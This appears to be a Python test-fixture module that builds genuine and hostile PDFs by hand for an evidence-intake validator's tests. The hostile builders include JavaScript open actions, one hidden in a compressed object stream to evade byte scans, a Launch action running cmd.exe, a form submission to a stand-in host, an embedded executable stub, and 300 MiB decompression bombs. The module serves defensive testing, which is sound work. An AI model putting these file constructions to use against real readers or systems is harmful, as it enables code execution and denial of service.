"""PDFs built byte by byte for the evidence intake tests: genuine ones and hostile ones.

Each builder returns the bytes of one file. A hostile PDF is a genuine one
with one thing added, so that a refusal can only come from the rule under
test. Writing the objects by hand (no PDF library) keeps every attack
exactly as a hostile file would write it.
"""

import functools
import io
import zlib

MiB = 1024 * 1024


def stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def assemble(objects, *, trailer=b""):
    """A PDF of ``objects`` (bodies, numbered from 1; object 1 is the catalogue)."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b">>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _tounicode(text):
    """A CMap giving character id ``i + 1`` the ``i``-th character of ``text``."""
    lines = []
    for i, char in enumerate(text):
        lines.append(b"<%04x> <%s>" % (i + 1, char.encode("utf-16-be").hex().encode()))
    body = b"\n".join(lines)
    return (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
        b"/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
        b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        b"%d beginbfchar\n" % len(text) + body + b"\nendbfchar\n"
        b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )


def text_pdf(
    text="Letter of support",
    *,
    pages=1,
    rtl=False,
    catalogue_extra=b"",
    extra_objects=(),
    extra_contents=(),
):
    """A PDF whose pages show ``text`` with a text layer (any script: a ToUnicode map).

    ``rtl``: the glyphs are drawn right to left, in visual order, as PDF
    writers set Arabic script. ``catalogue_extra`` goes into the catalogue;
    ``extra_objects`` are appended, numbered from ``next_number(pages)`` on;
    ``extra_contents`` (numbers) are drawn after the first page's text.
    """
    order = range(len(text) - 1, -1, -1) if rtl else range(len(text))
    codes = "".join("%04x" % (i + 1) for i in order).encode()
    content = b"BT /F1 14 Tf 72 720 Td <" + codes + b"> Tj ET"
    kids = b" ".join(b"%d 0 R" % (6 + 2 * i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue_extra + b">>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type0 /BaseFont /NotoNaskhArabic /Encoding /Identity-H "
        b"/DescendantFonts [4 0 R] /ToUnicode 5 0 R >>",
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /NotoNaskhArabic "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
        b"/DW 600 >>",
        stream(b"", _tounicode(text)),
    ]
    for i in range(pages):
        drawn = b" ".join(b"%d 0 R" % n for n in (7 + 2 * i, *(extra_contents if not i else ())))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents [" + drawn + b"] >>"
        )
        objects.append(stream(b"", content))
    return assemble(objects + list(extra_objects))


def next_number(pages=1):
    """The number ``text_pdf`` gives the first of its ``extra_objects``."""
    return 6 + 2 * pages


@functools.cache
def scanned_pdf():
    """An image-only page, as a scanner writes it: no text layer at all."""
    width, height = 200, 100
    pixels = bytes((x * 255 // width) for _ in range(height) for x in range(width))
    image = zlib.compress(pixels)
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>",
            stream(
                b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode" % (width, height),
                image,
            ),
            stream(b"", b"q 595 0 0 842 0 0 cm /Im0 Do Q"),
        ]
    )


ARABIC = "رسالة دعم من وزارة الهجرة والمهجرين"


def arabic_pdf():
    return text_pdf(ARABIC, rtl=True)


# -- hostile -------------------------------------------------------------------


def open_action_javascript():
    return text_pdf(catalogue_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ")


def names_javascript():
    """A document-level script in the names tree, run when the file opens."""
    n = next_number()
    return text_pdf(
        catalogue_extra=b"/Names << /JavaScript %d 0 R >> " % n,
        extra_objects=[
            b"<< /Names [(init) %d 0 R] >>" % (n + 1),
            b"<< /S /JavaScript /JS (this.print\\(\\)) >>",
        ],
    )


def launch_action():
    return text_pdf(
        catalogue_extra=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> /F (cmd.exe) >> "
    )


def submit_form():
    return text_pdf(
        catalogue_extra=b"/OpenAction << /S /SubmitForm /F (https://collect.example/) >> "
    )


def import_data():
    return text_pdf(catalogue_extra=b"/OpenAction << /S /ImportData /F (data.fdf) >> ")


def remote_goto():
    return text_pdf(
        catalogue_extra=b"/OpenAction << /S /GoToR /F (//host/share/x.pdf) /D [0 /Fit] >> "
    )


def uri_link():
    """An ordinary web link: allowed, and listed."""
    return text_pdf(
        catalogue_extra=b"/OpenAction << /S /URI /URI (https://www.example.org/decree) >> "
    )


def embedded_file():
    n = next_number()
    return text_pdf(
        catalogue_extra=b"/Names << /EmbeddedFiles << /Names [(payload.exe) %d 0 R] >> >> " % n,
        extra_objects=[
            b"<< /Type /Filespec /F (payload.exe) /EF << /F %d 0 R >> >>" % (n + 1),
            stream(b"/Type /EmbeddedFile", b"MZ" + b"\x00" * 64),
        ],
    )


def xfa_form():
    n = next_number()
    return text_pdf(
        catalogue_extra=b"/AcroForm << /Fields [] /XFA %d 0 R >> " % n,
        extra_objects=[stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")],
    )


@functools.cache
def _deflated_zeros(size):
    packer = zlib.compressobj(9)
    chunk = bytes(MiB)
    parts = [packer.compress(chunk) for _ in range(size // MiB)]
    parts.append(packer.flush())
    return b"".join(parts)


@functools.cache
def flate_bomb(size=300 * MiB):
    """A content stream of a few hundred KiB that inflates about 1,000:1 to ``size``."""
    return text_pdf(
        extra_objects=[stream(b"/Filter /FlateDecode", _deflated_zeros(size))],
        extra_contents=[next_number()],
    )


def chained_bomb(size=300 * MiB):
    """The same bomb under ASCIIHex, so that the inflating filter is not the first."""
    data = _deflated_zeros(size).hex().encode() + b">"
    return text_pdf(
        extra_objects=[stream(b"/Filter [/ASCIIHexDecode /FlateDecode]", data)],
        extra_contents=[next_number()],
    )


def encrypted_pdf():
    """A PDF encrypted with a user password, as a reader's "protect" command makes it."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def truncated_pdf():
    data = text_pdf()
    return data[: len(data) // 2]


def object_stream_javascript():
    """JavaScript in an action kept inside a compressed object stream (PDF 1.5),
    where a scan of the file's bytes would not see it."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"6 0 "
    packed = zlib.compress(header + hidden)
    plain = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream(b"", b"BT ET"),
        stream(b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header), packed),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(plain, start=1):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    offsets[7] = out.tell()
    rows = [bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for number in range(1, 6):
        rows.append(bytes([1]) + offsets[number].to_bytes(4, "big") + bytes(2))
    rows.append(bytes([2]) + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))  # object 6
    rows.append(bytes([1]) + offsets[7].to_bytes(4, "big") + bytes(2))
    out.write(
        b"7 0 obj\n"
        + stream(b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R", b"".join(rows))
        + b"\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[7])
    return out.getvalue()
